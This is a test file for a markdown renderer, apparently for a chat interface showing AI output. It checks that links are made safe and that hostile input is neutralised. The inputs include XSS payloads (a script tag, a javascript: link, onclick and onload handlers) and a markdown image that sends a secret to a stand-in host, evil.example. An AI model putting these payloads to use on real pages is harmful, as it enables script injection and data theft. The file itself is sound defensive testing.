// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.ts';

describe('renderMarkdown', () => {
  it('renders GFM tables and keeps safe links, opening them without an opener', () => {
    const html = renderMarkdown('| a | b |\n| - | - |\n| 1 | 2 |\n\n[site](https://example.org)');
    expect(html).toContain('<table>');
    expect(html).toContain('href="https://example.org"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('target="_blank"');
  });

  it('makes script, event handlers and javascript: links inert', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><a href="javascript:alert(2)">x</a><b onclick="alert(3)">y</b><svg onload="alert(4)"></svg>',
    );
    expect(html).not.toMatch(/<script|javascript:|onclick|onload/i);
  });

  it('drops remote images and form controls, and prefixes model-chosen ids', () => {
    const html = renderMarkdown(
      '![t](https://evil.example/leak?d=secret)\n\n<input value="Password"><span id="composer-input">z</span>',
    );
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<input');
    expect(html).not.toContain('id="composer-input"');
  });
});
